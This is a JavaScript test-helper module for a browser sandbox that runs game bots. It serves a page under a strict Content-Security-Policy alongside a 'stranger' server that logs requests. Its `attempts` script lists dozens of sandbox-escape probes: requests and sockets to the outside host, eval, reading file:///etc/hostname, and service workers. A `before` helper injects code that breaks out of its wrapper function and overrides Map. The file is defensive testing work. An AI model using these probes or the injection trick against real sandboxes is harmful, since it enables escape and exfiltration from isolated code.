// A page with only the bots' sandbox, the server of a stranger, and matches that record the bots' answers.
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { readFileSync, readdirSync } from "node:fs";
import { createServer } from "node:http";
import { join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { newFolder, rules } from "./program.mjs";
import { until } from "./view.mjs";

/** @typedef {import("../src/lab/files").Files} Files */
/** @typedef {import("../src/lab/output").Problem} Problem */
/** @typedef {import("../src/lab/output").Print} Print */
/** @typedef {{ turn: number, actions: string } | { output: string, error: boolean } | { gone: string }} Played */
/** @typedef {{ played: Played[], prints: Print[], problems: Problem[], gone: string[] }} Heard */
/** @typedef {(expression: string) => Promise<any>} Ask evaluates an expression in a page */

const source = fileURLToPath(new URL("../../..", import.meta.url));

/** @type {{ host: string, hash: string } | undefined} */
let built;

/** The sandbox as a script for a page, and the hash of its frame's script. */
function sandbox() {
  if (built) return built;
  const folder = newFolder();
  const go = spawnSync("go", ["-C", join(source, "tools/esbuild"), "run", ".", "-pages", folder], { encoding: "utf8" });
  if (go.status !== 0) throw new Error(`esbuild: ${go.error?.message ?? go.stderr}`);
  const [, hash] =
    /frameHash = "([^"]+)"/.exec(readFileSync(join(source, "show/web/src/lab/bot/frame.ts"), "utf8")) ?? [];
  if (!hash) throw new Error("frame.ts has no hash");
  return (built = { host: readFileSync(join(folder, "host.page.js"), "utf8"), hash });
}

const driver = `
const host = new BotHost(document.body, () => loadPyodide("python/"));
const runs = [];
Object.assign(window, {
  host, runs,
  async begin(files) {
    const heard = { played: [], prints: [], problems: [], gone: [] };
    const run = await host.start(files, { on: {
      problem: (problem) => heard.problems.push(problem), output: (line) => heard.prints.push(line), gone: (why) => heard.gone.push(why),
    } });
    run.port.onmessage = ({ data }) => heard.played.push(data);
    return runs.push({ run, heard, say: (lines) => lines.forEach((line) => run.port.postMessage(line)) }) - 1;
  },
});`;

/**
 * The policy of the page. It allows what bots need, and is as strict as that of a served page. scripts are the only
 * ones allowed.
 */
const policyOf = (/** @type {string} */ scripts, python = false) =>
  `default-src 'none'; script-src ${scripts} ${sandbox().hash}${python ? " 'wasm-unsafe-eval'" : ""}; worker-src 'self' blob:; connect-src 'self'; style-src 'self'; img-src 'self' data: blob:; base-uri 'none'; form-action 'none'`;

/** The page as one HTML file, to be opened from disk. */
export function oneFile() {
  const script = `${sandbox().host}\n${driver}`;
  const hash = `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
  return `<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${policyOf(hash)}"><title>Bots</title><link rel="icon" href="data:,"><body><script type="module">${script}</script>`;
}

/** The rules as the page requests them, with the policy of their worker. @param {string} url */
function laboratory(url) {
  const file = {
    "/lab/worker.js": "show/web/dist/lab/worker.js",
    "/lab/wasm_exec.js": `${rules()}/wasm_exec.js`,
    "/lab/lab.wasm": `${rules()}/lab.wasm.gz`,
  }[url];
  if (!file) return undefined;
  const wasm = url.endsWith(".wasm");
  return {
    content: readFileSync(resolve(source, file)),
    headers: {
      "Content-Type": wasm ? "application/wasm" : "text/javascript",
      ...(wasm && { "Content-Encoding": "gzip" }),
      "Content-Security-Policy": "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'",
    },
  };
}

/**
 * Starts two servers: one with the page and the laboratory, and a stranger's, which records its requests. With a folder
 * of Pyodide the page has Python; more returns code added to Pyodide's script, given the addresses.
 * @param {{ python?: string, more?: (site: { page: string, other: string }) => string }} [options]
 */
export async function serve({ python, more } = {}) {
  /** @type {string[]} */
  const stranger = [];
  /** @type {string[]} */
  const asked = [];
  const servers = [
    createServer(({ url = "/" }, answer) => {
      asked.push(url);
      answer
        .setHeader("Content-Security-Policy", `${policyOf("'self'", python !== undefined)}; frame-ancestors 'none'`)
        .setHeader("Cross-Origin-Opener-Policy", "same-origin");
      const lab = laboratory(url);
      if (lab) answer.writeHead(200, lab.headers).end(lab.content);
      else if (python && url.startsWith("/python/")) {
        answer.write(readFileSync(join(python, url.replace("/python/", ""))));
        answer.end(url.endsWith("/pyodide.js") && more ? more({ page, other }) : "");
      } else if (url === "/page.js")
        answer.setHeader("Content-Type", "text/javascript").end(`${sandbox().host}\n${driver}`);
      else
        answer
          .setHeader("Content-Type", "text/html")
          .end(
            '<!doctype html><title>Bots</title><link rel="icon" href="data:,"><body><script type="module" src="/page.js"></script>',
          );
    }),
    createServer((request, answer) => {
      stranger.push(`${request.method} ${request.url}`);
      answer.setHeader("Access-Control-Allow-Origin", "*").end();
    }).on("upgrade", (request, socket) => {
      stranger.push(`upgrade ${request.url}`);
      socket.destroy();
    }),
  ];
  const [page = "", other = ""] = await Promise.all(
    servers.map(async (server) => {
      await once(server.listen(0, "127.0.0.1"), "listening");
      const address = server.address();
      return typeof address === "object" ? `http://127.0.0.1:${address?.port}/` : "";
    }),
  );
  return {
    page,
    other,
    stranger,
    asked,
    close: () => {
      for (const server of servers) server.close().closeAllConnections();
    },
  };
}

/**
 * Evaluates expressions in a page whose frames' process may end. Playwright's own evaluate would fail with the process.
 * @param {import("playwright-core").Page} page
 * @returns {Promise<Ask>}
 */
export async function askOf(page) {
  const session = await page.context().newCDPSession(page);
  return async (expression) => {
    const { result, exceptionDetails } = await session.send("Runtime.evaluate", {
      expression,
      awaitPromise: true,
      returnByValue: true,
    });
    if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
    return result.value;
  };
}

/** A bot in the page. */
export class BotInPage {
  /**
   * @param {Ask} ask
   * @param {number} number
   */
  constructor(ask, number) {
    this.ask = ask;
    this.name = `runs[${number}]`;
  }

  /**
   * @param {Ask} ask
   * @param {Files} files
   */
  static async start(ask, files) {
    return new BotInPage(ask, await ask(`begin(${JSON.stringify(files)})`));
  }

  /** @param {(string | object)[]} lines */
  async say(...lines) {
    const texts = lines.map((line) => (typeof line === "string" ? line : JSON.stringify(line)));
    await this.ask(`${this.name}.say(${JSON.stringify(texts)})`);
  }

  /** @returns {Promise<Heard>} */
  heard() {
    return this.ask(`${this.name}.heard`);
  }

  /**
   * Waits until what was heard satisfies right.
   * @param {(heard: Heard) => boolean} right
   * @param {string} what
   */
  until(right, what) {
    return until(() => this.heard(), right, what);
  }

  /**
   * Waits for the answer to a turn.
   * @param {number} turn
   */
  async answer(turn) {
    const heard = await this.until(
      ({ played, gone }) => gone.length > 0 || played.some((said) => "turn" in said && said.turn === turn),
      `the answer to turn ${turn}`,
    );
    const found = heard.played.find((said) => "turn" in said && said.turn === turn);
    if (!found || !("actions" in found)) throw new Error(`no answer to turn ${turn}: ${JSON.stringify(heard)}`);
    return found.actions;
  }

  async stop() {
    await this.ask(`${this.name}.run.stop()`);
  }
}

/**
 * The files of a folder.
 * @param {string} folder
 * @returns {Files}
 */
export function filesOf(folder) {
  return Object.fromEntries(readdirSync(folder).map((name) => [name, readFileSync(join(folder, name), "utf8")]));
}

/**
 * The first line of a match to the program of a player: the seed for its own random choices, as \`play\` gives it.
 * @param {number} seed
 * @param {number} player
 */
export function envLine(seed, player) {
  const numbers = Buffer.alloc(24);
  numbers.writeBigUInt64BE(BigInt(seed));
  numbers.writeBigUInt64BE(BigInt(player), 8);
  const hash = createHash("sha256").update("blastyard program seed").update(numbers).digest();
  return { type: "env", env: { BLASTYARD_SEED: String(hash.readUInt32BE() >>> 1) } };
}

export const startLine = {
  type: "start",
  game: "hexabomb",
  player: 0,
  name: "mybot",
  players: 2,
  special_players: 0,
  turns: 9,
  turn_ms: 1000,
  first_turn_ms: 10000,
  state: {},
};

/** @param {number} turn */
export const turnLine = (turn) => `{"type":"turn","turn":${turn},"state":{"n":${turn}}}`;

/**
 * Messages about hostile bots in the console, and about requests that the browser blocks.
 * @param {Pick<Awaited<ReturnType<typeof serve>>, "other" | "page">} site
 */
export const tries = ({ other, page }) =>
  new RegExp(`Content Security Policy|Failed to|blocked|SecurityError|^request to (${other}|${page})`);

/**
 * What a bot may try; each attempt that succeeds gives a word.
 * @param {Pick<Awaited<ReturnType<typeof serve>>, "other" | "page">} site
 */
export const attempts = ({ other, page }) => `
const url = ${JSON.stringify(other)}, own = ${JSON.stringify(page)}, tried = {};
const attempt = async (name, act) => {
  try {
    tried[name] = String(await Promise.race([act(), new Promise((_, no) => setTimeout(no, 3000, new Error("no answer")))]) ?? "done");
  } catch (error) {
    tried[name] = "refused: " + error?.name;
  }
};
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
module.exports = async (raw) => {
  const { fetch, fetchLater, XMLHttpRequest, WebSocket, WebSocketStream, EventSource, WebTransport, importScripts, Worker, SharedWorker, BroadcastChannel, indexedDB, caches, FontFace, navigator } = raw;
  await Promise.all([
    attempt("fetch from the page's server", () => fetch(own + "fetch", { mode: "no-cors" })),
    attempt("importScripts from the page's server", () => importScripts(own + "page.js?script")),
    attempt("import from the page's server", () => import(own + "page.js?module")),
    attempt("Worker of the page's server", () => new Promise((yes, no) => { const w = new Worker(own + "page.js?worker"); w.onmessage = yes; w.onerror = no; })),
    attempt("fetch", () => fetch(url + "fetch")),
    attempt("fetch no-cors", () => fetch(url + "no-cors", { mode: "no-cors", method: "POST", body: "x", keepalive: true })),
    attempt("XMLHttpRequest", () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", url + "xhr"); x.send(); })),
    attempt("WebSocket", () => new Promise((yes, no) => { const s = new WebSocket(url.replace("http", "ws") + "ws"); s.onopen = yes; s.onerror = no; })),
    attempt("EventSource", () => new Promise((yes, no) => { const s = new EventSource(url + "events"); s.onopen = yes; s.onerror = no; })),
    attempt("WebTransport", () => new WebTransport(url.replace("http:", "https:") + "transport").ready),
    attempt("importScripts", () => importScripts(url + "script.js")),
    attempt("importScripts data", () => importScripts("data:text/javascript,self.harm=1")),
    attempt("importScripts blob", () => importScripts(blob("self.harm=1"))),
    attempt("import", () => import(url + "module.js")),
    attempt("import data", () => import("data:text/javascript,export default 1")),
    attempt("eval", () => (0, eval)("1")),
    attempt("Function", () => new Function("return 1")()),
    attempt("WebAssembly", () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
    attempt("Worker of the stranger", () => new Promise((yes, no) => { const w = new Worker(url + "worker.js"); w.onmessage = yes; w.onerror = no; })),
    attempt("Worker of data", () => new Promise((yes, no) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = yes; w.onerror = no; })),
    attempt("SharedWorker", () => new SharedWorker(blob(""))),
    attempt("font", () => new FontFace("f", "url(" + url + "font.woff)").load()),
    attempt("indexedDB", () => new Promise((yes, no) => { const r = indexedDB.open("harm"); r.onsuccess = yes; r.onerror = no; })),
    attempt("caches", () => caches.open("harm")),
    attempt("file system", () => navigator.storage.getDirectory()),
    attempt("locks", () => navigator.locks.request("harm", () => "held")),
    attempt("beacon", () => navigator.sendBeacon(url + "beacon")),
    attempt("service worker", () => navigator.serviceWorker.register(url + "sw.js")),
    attempt("RTC", () => new raw.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }).createOffer()),
    attempt("localStorage", () => raw.localStorage.setItem("harm", "1")),
    attempt("document", () => raw.document.body.remove()),
    attempt("parent", () => raw.parent.document.title),
    attempt("cookies", () => raw.cookieStore.set("harm", "1")),
    attempt("notification", () => raw.Notification.requestPermission()),
    attempt("fetch of a file", () => fetch("file:///etc/hostname")),
    attempt("fetch of a blob", () => fetch(blob("1"))),
    attempt("importScripts of a file", () => importScripts("file:///etc/hostname")),
    attempt("Worker of a file", () => new Promise((yes, no) => { const w = new Worker("file:///etc/hostname"); w.onmessage = yes; w.onerror = no; })),
    attempt("import of a blob", () => import(blob("export default 1"))),
    attempt("XMLHttpRequest that waits", () => { const x = new XMLHttpRequest(); x.open("GET", url + "waits", false); x.send(); }),
    attempt("WebSocketStream", () => new WebSocketStream(url.replace("http", "ws") + "stream").opened),
    attempt("fetchLater", () => fetchLater(url + "later", { activateAfter: 0 })),
    attempt("storage buckets", () => navigator.storageBuckets.open("harm")),
    attempt("shared memory", () => new SharedArrayBuffer(8)),
    attempt("memory of all", () => raw.performance.measureUserAgentSpecificMemory()),
    attempt("a timer of text", () => new Promise((yes, no) => { self.timed = yes; raw.setTimeout("self.timed('done')"); raw.setTimeout(no, 500, new Error("nothing")); })),
    attempt("a window", () => raw.open(url + "window")),
    attempt("the top window", () => { raw.top.location = url + "top"; }),
    attempt("a picture with an address", () => createImageBitmap(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="' + url + 'svg"/></svg>'], { type: "image/svg+xml" }))),
    attempt("a canvas with an address", () => {
      const canvas = new OffscreenCanvas(9, 9).getContext("2d");
      for (const name of ["filter", "font", "fillStyle"]) canvas[name] = "url(" + url + "canvas)";
      canvas.fillRect(0, 0, 9, 9);
      throw new Error("the server knows");
    }),
    attempt("a worker that is a module", () => new Promise((yes, no) => {
      const w = new Worker(blob("import " + JSON.stringify(url + "imported.js") + "; postMessage('reached')"), { type: "module" });
      w.onmessage = ({ data }) => yes(data);
      w.onerror = no;
    })),
    attempt("a worker of a worker", () => new Promise((yes, no) => {
      const inner = "const say = postMessage; (async () => { for (const act of [() => fetch(" + JSON.stringify(url + "inner") + "), () => importScripts(" + JSON.stringify(url + "inner.js") +
        "), () => new Function('1')(), () => indexedDB.open('harm')]) try { await act(); say('reached'); } catch {} say('nothing'); })()";
      const w = new Worker(blob("const w = new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(inner) + "]))); w.onmessage = ({ data }) => postMessage(data)"));
      w.onmessage = ({ data }) => data === "nothing" ? no(new Error("nothing")) : yes(data);
      w.onerror = no;
    })),
    attempt("worker of a blob", () => new Promise((yes, no) => {
      const w = new Worker(blob("fetch(" + JSON.stringify(url + "nested") + ").then(() => postMessage('reached'), () => postMessage('nothing'))"));
      w.onmessage = ({ data }) => data === "nothing" ? no(new Error("nothing")) : yes(data);
      w.onerror = no;
    })),
    attempt("broadcast", () => new BroadcastChannel("harm").postMessage("harm")),
  ]);
  return tried;
};
`;

/**
 * A bot that runs hostile code before the runtime: it closes its function and replaces what the runtime needs first.
 * @param {string} text
 */
export const before = (text) => `});
function Map() {
  const nothing = { set() {}, get() {}, has() {} };
  if (self.began) return nothing;
  self.began = true;
  ${text}
  return nothing;
}
(function () {
`;

/**
 * The files of a bot that tries everything with what the runtime removes, and prints the results.
 * @param {Pick<Awaited<ReturnType<typeof serve>>, "other" | "page">} site
 */
export const rawBot = (site) => ({
  "bot.js": before(`
  const raw = { navigator: self.navigator };
  for (let at = self; at; at = Object.getPrototypeOf(at)) for (const name of Object.getOwnPropertyNames(at)) try { raw[name] ??= typeof self[name] === "function" && /^[a-z]/.test(name) ? self[name].bind(self) : self[name]; } catch {}
  const { exports } = (() => { const module = {}; ${attempts(site)}; return module; })();
  const say = self.postMessage.bind(self);
  self.addEventListener = () => {}; // the runtime hears nothing
  exports(raw).then((tried) => say({ print: JSON.stringify(tried), error: false, turn: 0 }), (error) => say({ print: String(error), error: true, turn: 0 }));`),
});
